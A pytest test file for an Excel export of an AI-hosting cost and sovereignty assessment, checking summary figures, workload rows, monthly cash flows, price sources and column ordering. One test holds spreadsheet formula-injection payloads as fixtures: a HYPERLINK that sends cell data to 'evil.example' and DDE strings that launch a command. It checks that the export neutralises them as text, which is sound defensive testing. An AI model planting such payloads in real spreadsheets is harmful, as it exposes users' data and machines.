"""The results workbook: every figure is the run's own, numbers stay numbers, text never runs.

The run is the pipeline's own (tests/assessments/world.py): media-house.json screened,
costed, sampled, scored and placed as a worker does it.
"""

from __future__ import annotations

import io
import zipfile
from datetime import datetime

import pytest
from openpyxl import load_workbook

from assessments.reports.appendix import prices_used
from assessments.reports.workbook import SHEETS, results_workbook
from assessments.results import RunResults
from tests.assessments.world import example_run_data

META = {
    "organization": "Example Media",
    "assessment": "Media house example",
    "run_number": 2,
    "finished": datetime(2026, 11, 25, 9, 0, 5),
}
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


@pytest.fixture
def results() -> dict:
    return example_run_data()[1]


def _bytes(results: dict, meta: dict = META) -> bytes:
    return b"".join(results_workbook(results=RunResults.load(results), meta=meta))


def _book(results: dict, meta: dict = META):
    return load_workbook(io.BytesIO(_bytes(results, meta)))


def _cells(sheet) -> list[list]:
    return [list(row) for row in sheet.iter_rows()]


def _row_after(sheet, header: str, label: str) -> list:
    """The cells of the row labelled ``label`` in the Summary table whose header is ``header``."""
    rows = _cells(sheet)
    start = next(i for i, row in enumerate(rows) if row[0].value == header)
    return next(row for row in rows[start + 1 :] if row[0].value == label)


def test_the_summary_names_the_run_and_says_the_answer(results):
    sheet = _book(results)["Summary"]
    labelled = {row[0]: row[1] for row in sheet.iter_rows(max_row=8, values_only=True) if row[0]}
    assert labelled["Assessment"] == "Media house example"
    assert labelled["Run"] == 2
    assert labelled["Finished (UTC)"] == datetime(2026, 11, 25, 9, 0, 5)
    assert labelled["Currency"] == "EUR"
    assert labelled["Horizon (months)"] == 60
    assert sheet["A1"].value == "Example Media · Media house example · run 2"

    answer = results["summary"]["answer"]
    said = [(row[0], row[1]) for row in sheet.iter_rows(min_row=10, values_only=True) if row[1]]
    assert ("What to do", answer["do"]) in said
    assert ("Why", answer["why"][0]) in said
    assert ("What sovereignty costs", answer["sovereignty"]) in said
    assert ("How sure", answer["how_sure"][0]) in said
    assert (None, answer["how_sure"][1]) in said
    assert ("What the data lacks", answer["data_gaps"]) in said
    # A sentence spans the table's width, wrapped, with a row tall enough for its lines.
    do = next(r for r in range(1, sheet.max_row) if sheet.cell(r, 1).value == "What to do")
    assert f"B{do}:H{do}" in {str(m) for m in sheet.merged_cells.ranges}
    assert sheet.cell(do, 2).alignment.wrap_text and sheet.row_dimensions[do].height >= 30


def test_the_summary_prices_each_option_from_the_engine_and_the_monte_carlo(results):
    sheet = _book(results)["Summary"]
    portfolio, spreads = results["engine"]["portfolio"], results["monte_carlo"]["options"]
    header = [c.value for c in _row_after(sheet, "The answer", "Option")]
    assert header == ["Option", "NPV (EUR)", "Total cost (EUR)", "P10 NPV (EUR)",
                      "P50 NPV (EUR)", "P90 NPV (EUR)", "Probability cheapest",
                      "Not priced because"]  # fmt: skip

    on_prem = _row_after(sheet, "Option", "On-premises")
    spread = spreads["on_prem"]["npv"]
    assert [c.value for c in on_prem[1:7]] == [
        portfolio["on_prem"]["npv"],
        portfolio["on_prem"]["total"],
        spread["p10"],
        spread["p50"],
        spread["p90"],
        spreads["on_prem"]["probability_cheapest"],
    ]
    assert [c.number_format for c in on_prem[1:7]] == ["#,##0"] * 5 + ["0%"]
    api = _row_after(sheet, "Option", "Managed API")
    assert (
        api[6].value
        == spreads["managed_api"]["probability_cheapest"]
        == pytest.approx(0.8267, abs=1e-4)
    )
    committed = _row_after(sheet, "Option", "Cloud committed")
    assert committed[1].value is None
    assert committed[7].value.startswith("12 workloads without a price: ")

    placement = results["placement"]
    placed = _row_after(sheet, "Placement by option", "On-premises")
    assert [c.value for c in placed[:3]] == [
        "On-premises",
        placement["by_option"]["on_prem"]["cost"],
        10,
    ]
    everything = _row_after(sheet, "Placement by option", "All workloads")
    assert [c.value for c in everything[1:6]] == [
        placement["cost"],
        12,
        placement["npv_spread"]["p10"],
        placement["npv_spread"]["p50"],
        placement["npv_spread"]["p90"],
    ]


def test_each_workload_and_option_has_its_costs_scores_and_rules(results):
    sheet = _book(results)["Workloads"]
    header = [c.value for c in sheet[1]]
    rows = [
        dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2, values_only=True)
    ]
    engine, sovereignty = results["engine"], results["sovereignty"]
    assert len(rows) == sum(len(w["options"]) for w in engine["workloads"]) == 72

    labels = {"on_prem": "On-premises", "colocation": "Colocation", "hybrid": "Hybrid",
              "cloud_on_demand": "Cloud on demand", "cloud_committed": "Cloud committed",
              "managed_api": "Managed API"}  # fmt: skip
    scored = {w["id"]: w["options"] for w in sovereignty["workloads"]}
    by_key = {(r["Workload ID"], r["Option"]): r for r in rows}
    for workload in engine["workloads"]:
        for option, priced in workload["options"].items():
            row = by_key[workload["id"], labels[option]]
            figures = {f["name"]: f["value"] for f in priced.get("figures", [])}
            assessment = scored[workload["id"]][option]
            assert row["Workload"] == workload["name"]
            assert row["NPV (EUR)"] == priced.get("npv")
            assert row["Total cost (EUR)"] == priced.get("total")
            assert row["Cost per 1M tokens (EUR)"] == figures.get("cost per 1M tokens")
            assert row["Cost per GPU-hour (EUR)"] == figures.get("cost per GPU-hour")
            assert row["Sovereignty score (0-5)"] == assessment.get("weighted_score")
            assert row["SEAL level (0-4)"] == (assessment.get("seal") or {}).get("level")
    recommended = results["summary"]["recommendations"]
    placed = results["placement"]["assignment"]
    for workload in engine["workloads"]:
        mine = [r for r in rows if r["Workload ID"] == workload["id"]]
        assert [r["Option"] for r in mine if r["Recommended alone"]] == [
            labels[recommended[workload["id"]]]
        ]
        assert [r["Option"] for r in mine if r["In the placement"]] == [
            labels[placed[workload["id"]]]
        ]

    transcription_cloud = by_key["transcription", "Cloud on demand"]
    assert transcription_cloud["Kind of work"] == "speech and audio"
    assert transcription_cloud["Blocked"] == "yes"
    assert transcription_cloud["Blocked by (rule)"] == (
        "B01 Personal data in a third country without a transfer tool"
    )
    assert transcription_cloud["Findings (rule IDs)"] == "B01, B03"
    assert by_key["transcription", "On-premises"]["Blocked"] == "no"
    committed = by_key["transcription", "Cloud committed"]
    assert committed["NPV (EUR)"] is None
    transcription = next(w for w in engine["workloads"] if w["id"] == "transcription")
    assert committed["Not priced because"] == transcription["options"]["cloud_committed"]["reason"]
    first = sheet[2]
    assert [first[i].number_format for i in (4, 5, 6, 7, 8)] == [
        "#,##0", "#,##0", "#,##0.00", "#,##0.00", "0.0"
    ]  # fmt: skip


def test_an_option_the_eligibility_screen_refused_names_its_rule(results):
    """GIVEN every colocation offer refused for the voice workload by rule P2 WHEN exported
    THEN its row says blocked by P2 and why, with no cost."""
    voice = next(w for w in results["engine"]["workloads"] if w["id"] == "voice")
    voice["options"]["colocation"] = {
        "option": "colocation",
        "missing": "colocation offer the workload's rules permit",
        "reason": "P2 refuses every colocation site outside the EEA",
        "blocked_by": "P2",
        "refused_offer": "Equinix NY5",
    }
    scored = next(w for w in results["sovereignty"]["workloads"] if w["id"] == "voice")
    scored["options"]["colocation"] = {
        "unavailable": True, "reason": "", "blocked": True, "blocked_by": "P2",
        "refused_offer": "Equinix NY5",
    }  # fmt: skip
    sheet = _book(results)["Workloads"]
    header = [c.value for c in sheet[1]]
    row = next(
        dict(zip(header, r, strict=True))
        for r in sheet.iter_rows(min_row=2, values_only=True)
        if r[1] == "voice" and r[3] == "Colocation"
    )
    assert (row["NPV (EUR)"], row["Blocked"], row["Blocked by (rule)"]) == (None, "yes", "P2")
    assert row["Not priced because"] == "P2 refuses every colocation site outside the EEA"


def test_cash_flows_are_the_engines_monthly_series_by_component(results):
    sheet = _book(results)["Cash flows"]
    portfolio = results["engine"]["portfolio"]
    header = [c.value for c in sheet[1]]
    assert header[:5] == ["Option", "Component", "Total (EUR)", "Month 0, at the start (EUR)",
                          "Month 1 (EUR)"]  # fmt: skip
    assert header[-1] == "Month 60 (EUR)" and len(header) == 3 + 61
    rows = {(r[0], r[1]): r for r in sheet.iter_rows(min_row=2, values_only=True)}
    on_prem = portfolio["on_prem"]
    purchases = rows["On-premises", "Server purchases"]
    assert list(purchases[3:]) == on_prem["monthly_by_component"]["purchase"]
    assert purchases[2] == pytest.approx(sum(on_prem["monthly_by_component"]["purchase"]))
    total = rows["On-premises", "Total"]
    assert list(total[3:]) == on_prem["monthly_total"]
    assert total[2] == on_prem["total"] == pytest.approx(sum(total[3:]), abs=0.05)
    api_tokens = rows["Managed API", "API tokens"]
    assert list(api_tokens[3:]) == portfolio["managed_api"]["monthly_by_component"]["api_tokens"]
    # Only the options priced for the portfolio have cash flows; each has its total row.
    assert {option for option, _ in rows} == {
        "On-premises", "Colocation", "Cloud on demand", "Managed API", "Hybrid"
    }  # fmt: skip
    assert sum(1 for _, component in rows if component == "Total") == 5
    assert sheet.freeze_panes == "C2"
    assert sheet["D2"].number_format == "#,##0"


def test_prices_carry_their_value_unit_currency_source_and_date(results):
    sheet = _book(results)["Prices"]
    header = [c.value for c in sheet[1]]
    assert header == ["Price", "Value", "Unit", "Currency", "Source", "Source URL", "Source date",
                      "Note", "Used by"]  # fmt: skip
    rows = [dict(zip(header, r, strict=True)) for r in sheet.iter_rows(min_row=2, values_only=True)]
    assert len(rows) == len(prices_used(RunResults.load(results).engine)) == 19
    nebius = next(r for r in rows if r["Price"].startswith("Nebius gpu-h100-sxm"))
    assert nebius == {
        "Price": "Nebius gpu-h100-sxm 1gpu-16vcpu-200gb (eu-north1) on_demand",
        "Value": 2.95,
        "Unit": "per hour",
        "Currency": "USD",
        "Source": "costing/data/cloud_gpu_offers.csv: Nebius gpu-h100-sxm 1gpu",
        "Source URL": "https://www.opslyft.com/blog/nebius-vs-aws-gpu-cost-allocation",
        "Source date": datetime(2026, 5, 18),
        "Note": None,
        "Used by": "Cloud on demand, Hybrid, Managed API",
    }
    dated = next(
        r for r in range(2, sheet.max_row + 1) if sheet.cell(r, 7).value == nebius["Source date"]
    )
    assert sheet.cell(dated, 7).number_format == "yyyy-mm-dd"
    pue = next(r for r in rows if r["Price"] == "PUE" and r["Value"] == 1.42)
    assert (pue["Unit"], pue["Currency"], pue["Source date"]) == ("ratio", None, "not stated")


def test_a_workload_named_like_a_formula_comes_out_as_text(results):
    results["engine"]["workloads"][0]["name"] = EVIL
    sources = results["engine"]["sources"]
    sources.append({"kind": "catalog", "reference": "+cmd|' /C calc'!A0", "date": "2026-01-05"})
    results["engine"]["portfolio"]["on_prem"]["figures"].append(
        {"name": "-2+3 rack price", "value": 12.5, "unit": "EUR", "source": len(sources) - 1}
    )
    data = _bytes(results, {**META, "assessment": "@SUM(1+1)*cmd|' /C calc'!A0"})
    book = load_workbook(io.BytesIO(data))

    name = book["Workloads"]["A2"]
    assert (name.value, name.data_type) == ("'" + EVIL, "s")
    assert book["Summary"]["B3"].value == "'@SUM(1+1)*cmd|' /C calc'!A0"
    prices = [[c.value for c in row] for row in book["Prices"].iter_rows(min_row=2)]
    assert ["'-2+3 rack price", 12.5, None, "EUR", "'+cmd|' /C calc'!A0"] in [r[:5] for r in prices]
    assert all(c.data_type != "f" for sheet in book for row in sheet.iter_rows() for c in row)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert len(parts) == 4
        assert not any(b"<f>" in archive.read(part) for part in parts)


def test_a_run_with_nothing_priced_and_no_answer_still_gives_every_sheet(results):
    """A run stored before the answer was written, whose engine priced nothing, still exports:
    its headline stands for the answer."""
    light = {
        **results,
        "engine": {**results["engine"], "portfolio": {}, "workloads": []},
        "summary": {**results["summary"], "answer": None,
                    "headline": ["Keep the archive at home."]},
        "monte_carlo": None, "tornado": None, "sovereignty": None, "placement": None,
    }  # fmt: skip
    book = _book(light)
    assert book.sheetnames == list(SHEETS)
    said = [row for row in book["Summary"].iter_rows(values_only=True) if row[0] == "Headline"]
    assert said[0][:2] == ("Headline", "Keep the archive at home.")
    assert book["Workloads"].max_row == 1 and book["Prices"].max_row == 1


def test_tables_keep_their_headers_in_view_and_their_columns_readable(results):
    book = _book(results)
    workloads = book["Workloads"]
    assert workloads.freeze_panes == "B2"  # the header row and the workload's name
    assert book["Prices"].freeze_panes == "A2"
    assert all(cell.font.b for cell in workloads[1])
    assert workloads.column_dimensions["A"].width == 34
    assert book["Prices"].column_dimensions["E"].width == 50


def test_options_and_components_keep_the_engines_order_whatever_order_the_json_kept(results):
    """PostgreSQL's jsonb keeps keys shortest first: the sheets still list on-premises first and
    purchases before energy, as the engine does."""
    engine = results["engine"]
    engine["portfolio"] = dict(reversed(engine["portfolio"].items()))
    for row in engine["portfolio"].values():
        if "monthly_by_component" in row:
            row["monthly_by_component"] = dict(reversed(row["monthly_by_component"].items()))
    for workload in engine["workloads"]:
        workload["options"] = dict(reversed(workload["options"].items()))
    book = _book(results)

    flows = [(r[0], r[1]) for r in book["Cash flows"].iter_rows(min_row=2, values_only=True)]
    assert list(dict.fromkeys(option for option, _ in flows)) == [
        "On-premises", "Colocation", "Cloud on demand", "Managed API", "Hybrid"
    ]  # fmt: skip
    assert [c for o, c in flows if o == "On-premises"] == [
        "Server purchases", "Server refresh", "Residual value", "Facility build", "Support",
        "Energy", "Staff", "Software", "Network and storage", "Total",
    ]  # fmt: skip
    first = [r[3] for r in book["Workloads"].iter_rows(min_row=2, max_row=7, values_only=True)]
    assert first == [
        "On-premises", "Colocation", "Cloud on demand", "Cloud committed", "Managed API", "Hybrid"
    ]  # fmt: skip
